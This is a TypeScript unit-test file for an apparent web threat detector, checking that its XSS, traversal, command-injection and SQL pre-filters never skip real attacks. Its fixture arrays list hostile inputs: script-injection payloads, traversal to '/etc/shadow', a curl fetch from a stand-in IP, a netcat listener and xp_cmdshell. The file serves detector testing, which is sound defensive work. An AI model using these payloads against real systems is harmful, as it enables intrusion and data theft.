import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { dirname, resolve } from 'node:path';
import { describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import * as cc from '../../../src/threat/decode/charclass.js';
import { decodeValue, type Decoded } from '../../../src/threat/decode/normalize.js';
import { detectCmdi } from '../../../src/threat/detectors/cmdi.js';
import { inspectValue, mayBeCmdi, mayBeTraversal, mayBeXss } from '../../../src/threat/detectors/index.js';
import { PARANOID_RULES, paranoidView, type Sink } from '../../../src/threat/detectors/paranoid.js';
import { mayBeSql } from '../../../src/threat/detectors/sqli/gate.js';
import { readings } from '../../../src/threat/detectors/sqli/detect.js';
import { probeVerdict } from '../../../src/threat/detectors/sqli/probes.js';
import { detectJsExpression } from '../../../src/threat/detectors/js-expression.js';
import { detectTraversal } from '../../../src/threat/detectors/traversal.js';
import { detectXss } from '../../../src/threat/detectors/xss.js';

const root = resolve(dirname(fileURLToPath(import.meta.url)), '..', '..', '..');

describe('charClasses', () => {
  it('sets one distinct bit per syntax character', () => {
    const cases: Array<[string, number]> = [['<', cc.C_LT], ['>', cc.C_GT], [':', cc.C_COLON], ['(', cc.C_PAREN], ['`', cc.C_BACKTICK],
      ['=', cc.C_EQ], ['{', cc.C_BRACE], ["'", cc.C_SQUOTE], ['"', cc.C_DQUOTE], ['.', cc.C_DOT], ['/', cc.C_SLASH], ['\\', cc.C_BACKSLASH],
      ['%', cc.C_PERCENT], ['&', cc.C_AMP], ['+', cc.C_PLUS], [';', cc.C_SEMI], ['|', cc.C_PIPE], ['$', cc.C_DOLLAR], ['\n', cc.C_NEWLINE], ['^', cc.C_CARET],
      [')', cc.C_RPAREN], ['#', cc.C_HASH], ['*', cc.C_STAR], [',', cc.C_COMMA], ['-', cc.C_DASH], ['@', cc.C_AT]];
    const seen = new Set<number>();
    for (const [ch, bit] of cases) {
      assert.equal(cc.charClasses(`a${ch}b`), bit, ch);
      assert.ok(!seen.has(bit), `bit of ${ch} is shared`);
      seen.add(bit);
    }
    assert.equal(cc.charClasses('plain words 123 _!?'), 0);
  });

  it('marks spelled-out hex, wide characters and the 7-bit fraction', () => {
    assert.equal(cc.charClasses('0x2e') & cc.C_HEX_PREFIX, cc.C_HEX_PREFIX);
    assert.equal(cc.charClasses('0X2F') & cc.C_HEX_PREFIX, cc.C_HEX_PREFIX);
    assert.equal(cc.charClasses('x0 box'), 0);
    assert.equal(cc.charClasses('a ADw-'), cc.C_SPACE_A | cc.C_DASH);
    assert.equal(cc.charClasses('aA bA'), 0);
    assert.equal(cc.charClasses('Seán'), cc.C_WIDE);
    assert.equal(cc.charClasses('\u00bcscript\u00be'), cc.C_FRACTION | cc.C_WIDE);
  });

  it('is what decodeValue reports for the url and full readings', () => {
    const d = decodeValue('%3Cb%3E &lt;i&gt;');
    assert.equal(d.urlClasses, cc.charClasses(d.url));
    assert.equal(d.fullClasses, cc.charClasses(d.full));
    assert.equal(d.fullClasses & cc.C_LT, cc.C_LT);
  });
});

/** Values a pre-filter must pass on: attacks written for this test, in the shapes the detectors read. */
const ATTACKS = [
  '<svg/onload=confirm(7)>', '"><img src=x onerror=print()>', 'javascript:void(open())', '\u00bciframe\u00be', '%22', '%3E%3C',
  'x" onfocus="top.location=name', '{{constructor.constructor(1)()}}', 'alert`9`', 'data:text/html;base64,PHA+',
  '../../../boot.ini', '..\\..\\win.ini', '/etc/shadow', 'C:\\Windows\\System32\\drivers', 'php://input', 'file:///etc/hosts',
  '0x2e0x2e0x2fetc0x2fshadow', '..2f..2fetc2fshadow', '%c0%ae%c0%ae%c0%af', '%u002e%u002e%u2215etc', '%2e%2e%5cwin.ini',
  'ＪavaScript：alert（1）', 'uname -a', 'curl.exe http://198.51.100.7/x', '; nslookup example.net', 'a|id', '$(sleep 4)', '`uptime`',
  'x\ncat etc/group', 'n\'c\' -lvp 4444', '{{ self.__init__.__globals__ }}', 'ping+-c+3+10.0.0.1', '\u212Aill -9 1', '\\u003csvg onload=alert(1)\\u003e', '&#x3C;script&#x3E;', '+ADw-script+AD4-',
  '^netstat -an', '<id;', 'a #REQUIRED>', 'x--><svg', '-->{}',
];
/** Values with '-', '@' or '/' as their only SQL punctuation that a SQL reading must still see. */
const SQL_DASH_AT = ['information_schema.tables-x', 'union\vselect-1', 'not-1', '1or-x', '0xabor-1', 'x@@version', 'a--', 'utl_http.request-x', 'a!1-b',
  '$select-x', 'mysql-user', 'waitfor\vdelay-x', '@v\vselect-x', '1/union/select', 'x/@@version', '/etc/mysql/user', '1or/1', 'a!1/b', '/x--'];
/** Shapes the paranoia-level rules (paranoid.ts) read, for their pre-filters. */
const PARANOID_SHAPES = ['whoami', '<br>', '<!-- x -->', '{{a.b}}', '{% for c in x %}', '<% = x %>', 'name--', 'a/*b*/c', "'-- x", '../notes.txt',
  '..\\data', 'string.rot13', 'see phpversion()', '0x77006100690074006600', 'file.txt%00', 'order by', '(||6)', '1-false', ',@variable', "'em",
  '(mail=*)', 'a;{cmd}', '<{cmd}', 'logs/{FILE}', 'x|y', 'a&&b', '$(id)', '`id`', '%0a%0d', '^cat', 'shadow', 'a="get";', "$('a.b')", 'for (i=0;i<9;i++)',
  'x).y();', 'a { color: red }', '/./../', 'price>100', '(sqlvuln)', 'sqlvuln;', '@v', '1*56', "1'1", '<>"\'%;)(&+', '/usr/spool/lp/log', '/x.ini',
  'Price: {price}', 'https://cdn.example.net/x/test.xxe', "' or x=y", "'' like '%'", 'or 1=1', 'in (1,2)', '1*true', '0xabor-1', '1or-1', 'exec xp_cmdshell'];
/** Benign near-misses: prose, names, ids, amounts. */
const BENIGN = ["Seán O'Brien", 'whoami lyrics', 'Kill Bill', 'sean.obrien@example.com', 'Order 1234 — please ship Tuesday', 'x0 box', 'O(n) time', 'a = b', 'v1.2.3', 'see https://example.com/a'];

function corpus(): string[] {
  const out: string[] = [];
  const files = [resolve(root, 'test/fixtures/threat/benign-api.jsonl')];
  const shared = process.env.PORTCULLIS_CORPUS ?? resolve(root, '..', 'shared', 'corpus');
  for (const f of ['attacks.jsonl', 'benign.jsonl']) if (existsSync(resolve(shared, f))) files.push(resolve(shared, f));
  for (const f of files) {
    if (!existsSync(f)) continue;
    for (const l of readFileSync(f, 'utf8').split('\n')) if (l.trim() !== '') out.push((JSON.parse(l) as { payload: string }).payload);
  }
  return out;
}

/** Each value, and the value with each family's syntax characters removed (so the filter says no). */
function samples(): string[] {
  const base = [...ATTACKS, ...PARANOID_SHAPES, ...BENIGN, ...corpus()];
  const out: string[] = [];
  for (const v of base) {
    out.push(v, v.replace(/[<>:(`={]/g, ' '), v.replace(/[./\\:]/g, ''), v.replace(/[<>:(`={./\\]/g, ''), v.replace(/[;|&\n\r`$<>{(%/\\'"+^]/g, ' '), v.replace(/[;|&\n\r`$<>{(%/\\'"+]/g, ' '),
      v.replace(/['"()=;<>#/*|&`,]/g, ''), v.replace(/['"()=;<>#/*|&`,]/g, '-'), v.replace(/['"()=;<>#/*|&`,\s]/g, '@'), v.replace(/[\s'"()=;<>#/*|&`,]/g, '\v'),
      v.replace(/['"()=;<>#*|&`,]/g, '/'), v.replace(/['"()=;<>#*|&`,\s]/g, '/'));
  }
  return out;
}

describe('detector pre-filters are necessary conditions', () => {
  const values = samples();

  /** For every sample the pre-filter skips, `check` holds (and some sample is skipped). */
  function holdsWhenSkipped(gate: (d: Decoded) => boolean, check: (d: Decoded, v: string) => void): void {
    let skipped = 0;
    for (const v of values) {
      const d = decodeValue(v);
      if (gate(d)) continue;
      skipped++;
      check(d, v);
    }
    assert.ok(skipped > 0);
  }

  it('markup/script: no finding from xss.ts or js-expression.ts when mayBeXss says no', () => {
    holdsWhenSkipped(mayBeXss, (d, v) => {
      assert.equal(detectXss(d.full, d.raw).confidence, 0, `xss on ${JSON.stringify(v)}`);
      assert.equal(detectJsExpression(d.full).confidence, 0, `js on ${JSON.stringify(v)}`);
    });
  });

  it('paths: no finding from traversal.ts when mayBeTraversal says no', () => {
    holdsWhenSkipped(mayBeTraversal, (d, v) => assert.equal(detectTraversal(d).confidence, 0, `traversal on ${JSON.stringify(v)}`));
  });

  it('commands: no finding from cmdi.ts when mayBeCmdi says no', () => {
    holdsWhenSkipped(mayBeCmdi, (d, v) => assert.equal(detectCmdi(d).confidence, 0, `cmdi on ${JSON.stringify(v)}`));
  });

  // (a value without any SQL punctuation is read only when it holds a space and a trigger word: a heuristic,
  // not held to here — 'drop\vshipping' scores 0.1, below every threshold)
  it('sql: no finding from the SQL readings or probes when mayBeSql says no to a value with -, @ or /', () => {
    let skipped = 0, slashed = 0;
    for (const v of [...values, ...SQL_DASH_AT]) {
      if (mayBeSql(v) || !/[-@/]/.test(v)) continue;
      if (v.indexOf('/') >= 0) slashed++;
      skipped++;
      assert.equal(readings(v).confidence, 0, `sqli on ${JSON.stringify(v)}`);
      assert.equal(probeVerdict(v).confidence, 0, `sqli probe on ${JSON.stringify(v)}`);
    }
    assert.ok(skipped > 0 && slashed > 0);
  });

  it('paranoia levels: no rule of paranoid.ts adds a finding to a value its pre-filter says no to', () => {
    for (const rule of PARANOID_RULES) {
      if (rule.may === undefined) continue;
      let skipped = 0;
      for (const v of values) {
        const view = paranoidView(decodeValue(v));
        if (view.t.length === 0 || rule.may(view)) continue;
        skipped++;
        const sink: Sink = { out: [], pl: 4 };
        rule.run(view, sink);
        assert.deepEqual(sink.out, [], `${rule.name} on ${JSON.stringify(v)}`);
      }
      assert.ok(skipped > 0, rule.name);
    }
  });

  it('paranoia levels: every shape of this file is read by the rule that flags it', () => {
    let flagged = 0;
    for (const v of PARANOID_SHAPES) {
      const view = paranoidView(decodeValue(v));
      for (const rule of PARANOID_RULES) {
        const sink: Sink = { out: [], pl: 4 };
        rule.run(view, sink);
        if (sink.out.length === 0) continue;
        flagged++;
        assert.ok(rule.may === undefined || rule.may(view), `${rule.name} flags ${JSON.stringify(v)} but its pre-filter says no`);
      }
    }
    assert.ok(flagged >= PARANOID_SHAPES.length);
  });

  it('sql: reads a value whose only punctuation is -, @ or / when a word, comment or operator around it can mean SQL', () => {
    for (const v of SQL_DASH_AT) assert.ok(mayBeSql(v), v);
    for (const v of ['SKU-1234-XL', 'sean.obrien@example.com', 'Mary-Jane', 'x-request-id', '2024-05-01', 'a@b.c d-e', '/api/v1/orders', '2024/05/01']) assert.ok(!mayBeSql(v), v);
    for (const v of ['and/or', 'a/*b', '*/x', 'x-SELECT', 'A-Union/b', 'Information_Schema.Tables-x']) assert.ok(mayBeSql(v), v);
    // words only: read when a trigger word is there, in any case
    for (const v of ['1 OR true', ' ORDER BY 5', 'x UNION y', 'Sleep 5', 'a Is b']) assert.ok(mayBeSql(v), v);
    for (const v of ['running shoes', 'ORDERS BY mail', 'Dublin city']) assert.ok(!mayBeSql(v), v);
  });

  it('hands the detectors the character classes of the text they read (detectSqli and the pre-filters rely on it)', () => {
    for (const v of values) {
      const d = decodeValue(v);
      assert.equal(d.fullClasses, cc.charClasses(d.full), JSON.stringify(v));
      assert.equal(d.urlClasses, cc.charClasses(d.url), JSON.stringify(v));
    }
  });

  it('reads a value that opens with a command name even without shell syntax', () => {
    for (const v of ['uname -a', 'whoami', 'Kill Bill', 'ipconfig.exe', '\u212Aill 1', 'WHOAMI.EXE', 'Netstat -an']) assert.ok(mayBeCmdi(decodeValue(v)), v);
    for (const v of ['Dublin', 'SKU-1234-XL', 'sean.obrien@example.com', 'order 66 shipped']) assert.ok(!mayBeCmdi(decodeValue(v)), v);
  });

  it('lets every attack of this file through to its detector', () => {
    for (const v of ATTACKS) {
      const d = decodeValue(v);
      assert.ok(mayBeXss(d) || mayBeTraversal(d) || mayBeCmdi(d), v);
      assert.ok(inspectValue(v).length > 0, `no finding for ${v}`);
    }
  });
});
